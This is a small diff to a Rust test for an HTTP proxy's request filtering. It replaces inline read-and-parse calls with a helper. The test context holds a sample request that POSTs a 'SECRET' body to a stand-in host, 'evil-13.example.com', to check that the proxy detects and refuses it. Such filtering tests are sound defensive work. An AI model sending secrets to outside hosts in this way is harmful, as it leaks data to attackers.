@@ -243,8 +243,7 @@ fn plain_http_inside_connect_is_decided_and_scanned() {
             "POST http://evil-13.example.com:{p}/in HTTP/1.1\r\nHost: evil-13.example.com:{p}\r\nContent-Length: 6\r\n\r\nSECRET"
         )
         .unwrap();
-        let n = t.read(&mut buf).unwrap();
-        let a = parse_http(&buf[..n]).unwrap();
+        let a = read_answer(&mut t).unwrap();
         let rule = if intercept == "none" {
             "host-mismatch"
         } else {
@@ -258,8 +257,7 @@ fn plain_http_inside_connect_is_decided_and_scanned() {
             "GET http://other.example.com:{p}/ HTTP/1.1\r\nHost: other.example.com:{p}\r\n\r\n"
         )
         .unwrap();
-        let n = t.read(&mut buf).unwrap();
-        assert_refused(&parse_http(&buf[..n]).unwrap(), 403, "host-mismatch");
+        assert_refused(&read_answer(&mut t).unwrap(), 403, "host-mismatch");
         let row = row_where(&s, "t", "docs.example.com", |r| {
             r["kind"] == "intercepted" && r["path"] == "/plain"
         });
